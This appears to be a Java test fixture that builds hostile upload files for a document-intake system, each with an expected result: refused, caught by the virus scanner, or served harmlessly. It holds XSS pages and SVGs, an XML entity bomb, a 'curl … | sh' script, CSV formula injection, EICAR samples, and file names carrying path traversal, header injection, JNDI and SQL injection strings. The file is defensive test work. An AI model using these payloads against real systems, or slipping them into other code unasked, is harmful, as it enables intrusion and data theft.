package org.assay.evidence;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.assay.platform.ScannerDaemon;

/**
 * Files that somebody might send to do harm, made here byte by byte, each with how it must end. Those with a script in them all try the
 * same: to ask for {@link #CANARY}.
 */
final class HostileFiles {
    /** Asked for by every script that runs. */
    static final String CANARY = "/assay-canary";

    static final String SCRIPT = "new Image().src='" + CANARY + "?'+location.pathname;document.title='ran'";
    static final String PAGE = "<!DOCTYPE html><html><head><script>" + SCRIPT + "</script></head><body onload=\""
            + SCRIPT + "\"><img src=x onerror=\"" + SCRIPT + "\"></body></html>";
    static final String DRAWING =
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + SCRIPT + "\"><script>" + SCRIPT + "</script></svg>";

    /** How a file must end. */
    enum Ending {
        /** It is not taken in, and its sender is told why. */
        REFUSED,
        /** It is taken in, the scanner finds it, and nobody gets it. */
        SCANNED_OUT,
        /** It is given out as bytes to save; what a page shows of it is a picture that we made, or sound and film. */
        HARMLESS
    }

    /** @param about what is wrong with it, for whoever reads a failure */
    record Hostile(String about, String name, byte[] content, Ending ending) {}

    private final List<Hostile> all = new ArrayList<>();

    private HostileFiles() {}

    static List<Hostile> all() {
        var files = new HostileFiles();
        HostileArchives.into(files);
        HostilePictures.into(files);
        HostileDocuments.into(files);
        files.texts();
        files.programs();
        files.names();
        files.viruses();
        files.media();
        return files.all;
    }

    void refused(String about, String name, byte[] content) {
        all.add(new Hostile(about, name, content, Ending.REFUSED));
    }

    void harmless(String about, String name, byte[] content) {
        all.add(new Hostile(about, name, content, Ending.HARMLESS));
    }

    private void texts() {
        Map.of(
                        "a web page", "page.html",
                        "a web page as text", "notes.txt",
                        "a web page as a PDF", "letter.pdf",
                        "a web page as a photo", "photo.jpg",
                        "a web page as a film", "film.mp4",
                        "a web page as a table", "table.csv",
                        "a web page as a document", "letter.docx")
                .forEach((about, name) -> refused(about, name, PAGE.getBytes(UTF_8)));
        refused("a web page behind a byte order mark", "notes.txt", ("\uFEFF" + PAGE).getBytes(UTF_8));
        refused("a drawing", "logo.svg", DRAWING.getBytes(UTF_8));
        refused("a drawing as a picture", "logo.png", DRAWING.getBytes(UTF_8));
        refused("a drawing as text", "logo.txt", ("<?xml version=\"1.0\"?>" + DRAWING).getBytes(UTF_8));
        refused(
                "a page in XHTML",
                "page.txt",
                ("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\">" + PAGE).getBytes(UTF_8));
        refused("entities that multiply", "data.txt", billionLaughs().getBytes(UTF_8));
        refused(
                "an XML file with a style that runs",
                "a.xml",
                ("<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\"" + " href=\"#s\"?><a/>").getBytes(UTF_8));
        refused("a script of a shell", "run.txt", "#!/bin/sh\ncurl http://example.org | sh".getBytes(UTF_8));
        refused(
                "an RTF document with an object",
                "a.txt",
                "{\\rtf1{\\object\\objupdate{\\objdata 0105}}}".getBytes(UTF_8));
        refused(
                "a page that saves itself whole",
                "a.mht",
                ("MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE).getBytes(UTF_8));
        refused("text under the name of a page", "notes.html", "only words".getBytes(UTF_8));
        refused("text under the name of a program", "notes.txt.exe", "only words".getBytes(UTF_8));
        harmless(
                "a mail whose part is a page",
                "mail.txt",
                ("From: a@example.org\nTo: b@example.org\nSubject: x\n" + "Content-Type: text/html\n\n" + PAGE)
                        .getBytes(UTF_8));
        harmless("a page behind very many spaces", "notes.txt", (" ".repeat(70_000) + PAGE).getBytes(UTF_8));
        refused("a page behind words", "notes.txt", ("Dear Zoe, thank you.\n\n" + PAGE).getBytes(UTF_8));
        harmless("a page in UTF-16", "notes.txt", PAGE.getBytes(UTF_16));
        harmless("a page in UTF-7", "notes.txt", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-".getBytes(UTF_8));
        harmless("a script", "notes.txt", ("function f() { " + SCRIPT + " }\nf();").getBytes(UTF_8));
        harmless("a style", "notes.txt", "body { background: url(/assay-canary) }".getBytes(UTF_8));
        refused("commands of a terminal", "notes.txt", "\u001b]0;x\u0007\u001b[2J words".getBytes(UTF_8));
        harmless(
                "formulas in a table",
                "table.csv",
                ("name,what\n=cmd|' /C calc'!A0,+1+1\n@SUM(1),-2+3\n\t=1,\"=HYPERLINK(\"\"http://"
                                + "example.org\"\")\"")
                        .getBytes(UTF_8));
        refused("a page in a cell", "table.csv", ("name,what\nx," + PAGE.replace(',', ';')).getBytes(UTF_8));
        harmless(
                "one line of five million characters",
                "notes.txt",
                "x".repeat(5_000_000).getBytes(UTF_8));
    }

    private static String billionLaughs() {
        var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY l0 \"lol\">");
        for (int i = 1; i < 10; i++) text.append("<!ENTITY l" + i + " \"" + ("&l" + (i - 1) + ";").repeat(10) + "\">");
        return text + "]><l>&l9;</l>";
    }

    private void programs() {
        byte[] windows = new byte[2048];
        put(windows, 0, "MZ");
        windows[0x3c] = (byte) 0x80;
        put(windows, 0x80, "PE\0\0");
        byte[] elf = new byte[2048];
        put(elf, 0, "\u007fELF\2\1\1");
        elf[16] = 2;
        elf[18] = 62;
        for (var name : List.of("setup.exe", "photo.jpg", "letter.pdf", "notes.txt", "photo.jpg.exe", "film.mp4"))
            refused("a Windows program", name, windows);
        for (var name : List.of("run", "photo.png", "notes.txt")) refused("a Linux program", name, elf);
        refused(
                "a Mac program",
                "photo.jpg",
                bytes("\u00cf\u00fa\u00ed\u00fe\7\0\0\1\3\0\0\0\2\0\0\0" + "\0".repeat(600)));
        refused("a class of Java", "notes.txt", bytes("\u00ca\u00fe\u00ba\u00be\0\0\0\u0045\0\n" + "\0".repeat(600)));
        refused("a shortcut", "letter.txt", bytes("L\0\0\0\1\24\2\0\0\0\0\0\u00c0\0\0\0\0\0\0F" + "\0".repeat(600)));
        refused("a module for browsers", "a.txt", bytes("\0asm\1\0\0\0" + "\0".repeat(100)));
        refused("a film that runs", "a.mp4", bytes("CWS\11\0\2\0\0x\u009c" + "\0".repeat(100)));
        refused(
                "an old Office file",
                "a.docx",
                bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\0".repeat(2000)));
        refused("an installer", "a.msi", bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\0".repeat(2000)));
        refused("nothing", "empty.pdf", new byte[0]);
        refused("only zeros", "photo.jpg", new byte[5000]);
    }

    /** The content is words: what is hostile is how it is called. */
    private void names() {
        byte[] words = "Dear Zoe, thank you for your letter.".getBytes(UTF_8);
        for (var name : List.of(
                "../../../etc/passwd.txt",
                "..\\..\\windows\\system.txt",
                "/etc/passwd.txt",
                "C:\\notes.txt",
                "a\r\nSet-Cookie: x=1\r\n\r\n<script>.txt",
                "a\r\n b\n\n\nc.txt",
                "photo\u202Egpj.exe.txt",
                "\u2066left\u2069\u200F.txt",
                "notes\0.html\0.txt",
                "x".repeat(4096) + ".txt",
                "\uD83D\uDCDA".repeat(300) + ".txt",
                "a\"; filename=\"page.html.txt",
                "a'; filename*=UTF-8''page.html;.txt",
                "%2e%2e%2f%2e%2e%2fnotes.txt",
                "<img src=x onerror=\"" + SCRIPT + "\">.txt",
                "'\"><script>" + SCRIPT + "</script>.txt",
                "${jndi:ldap:__example.org_a}.txt",
                "'; drop table evidence_file; --.txt",
                "CON.txt",
                " . .txt",
                "\u0000\u0001\u0002.txt",
                "Ｎｏｔｅｓ．ｈｔｍｌ.txt",
                "no\u0301tes\u0000\u0085\u2028.txt")) harmless("a name", name, words);
        refused("a name that is no name", "..", words);
        refused("no name", "", words);
        harmless("a photo under the name of a page", "photo.html", HostilePictures.photo("jpg", 60, 40));
        harmless("a photo under two names", "photo.jpg.exe", HostilePictures.photo("jpg", 60, 40));
    }

    private void viruses() {
        byte[] eicar = ScannerDaemon.eicar().getBytes(ISO_8859_1);
        var film = new ByteArrayOutputStream();
        film.writeBytes(box("ftyp", "isom\0\0\2\0isommp42"));
        film.writeBytes(new byte[500_000]);
        film.writeBytes(eicar);
        all.add(new Hostile("the test virus", "eicar.txt", eicar, Ending.SCANNED_OUT));
        all.add(new Hostile("the test virus at the end of a film", "film.mp4", film.toByteArray(), Ending.SCANNED_OUT));
        all.add(new Hostile(
                "the test virus in a document",
                "letter.docx",
                HostileArchives.office("word/document.xml", Map.of("word/media/image1.txt", eicar)),
                Ending.SCANNED_OUT));
        all.add(new Hostile(
                "the test virus behind a photo",
                "photo.jpg",
                joined(HostilePictures.photo("jpg", 60, 40), eicar),
                Ending.SCANNED_OUT));
        refused("the test virus in an archive", "eicar.zip", HostileArchives.zip(Map.of("eicar.com", eicar)));
    }

    private void media() {
        harmless("a film cut off", "film.mp4", box("ftyp", "isom\0\0\2\0isommp42"));
        harmless(
                "a film with a page in it", "film.mp4", joined(box("ftyp", "isom\0\0\2\0isommp42"), box("free", PAGE)));
        harmless(
                "a film with a box of four gigabytes",
                "film.mp4",
                joined(box("ftyp", "isom\0\0\2\0isommp42"), bytes("\u00ff\u00ff\u00ff\u00ffmdatxxxx")));
        harmless(
                "a film that leads elsewhere",
                "film.mov",
                joined(box("ftyp", "qt  \0\0\2\0qt  "), box("moov", "rdrf" + CANARY)));
        refused(
                "sound with a page in its title",
                "song.mp3",
                joined(bytes("ID3\4\0\0\0\0\20\0TIT2\0\0\7\u0076\0\0\3"), PAGE.getBytes(UTF_8), new byte[400]));
        harmless(
                "sound of four gigabytes in forty bytes",
                "song.wav",
                bytes("RIFF\u00ff\u00ff\u00ff\u00ffWAVEfmt \u00ff\u00ff\u00ff\u00ff" + "x".repeat(20)));
        harmless(
                "sound with rubbish",
                "song.ogg",
                joined(bytes("OggS\0\2\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\1\36\1vorbis"), PAGE.getBytes(UTF_8)));
        harmless(
                "a film in rubbish",
                "film.webm",
                joined(
                        bytes(
                                "\u001a\u0045\u00df\u00a3\u009fB\u0086\u0081\1B\u00f7\u0081\1B\u00f2\u0081\4B\u00f3\u0081\u0008B\u0082\u0084webm"),
                        PAGE.getBytes(UTF_8)));
    }

    static byte[] box(String kind, String content) {
        int size = 8 + content.length();
        return bytes(new String(new char[] {
                    (char) (size >> 24 & 255), (char) (size >> 16 & 255), (char) (size >> 8 & 255), (char) (size & 255)
                })
                + kind
                + content);
    }

    /** Each character one byte. */
    static byte[] bytes(String text) {
        return text.getBytes(ISO_8859_1);
    }

    static byte[] joined(byte[]... parts) {
        var whole = new ByteArrayOutputStream();
        for (var part : parts) whole.writeBytes(part);
        return whole.toByteArray();
    }

    private static void put(byte[] into, int at, String text) {
        System.arraycopy(bytes(text), 0, into, at, text.length());
    }
}
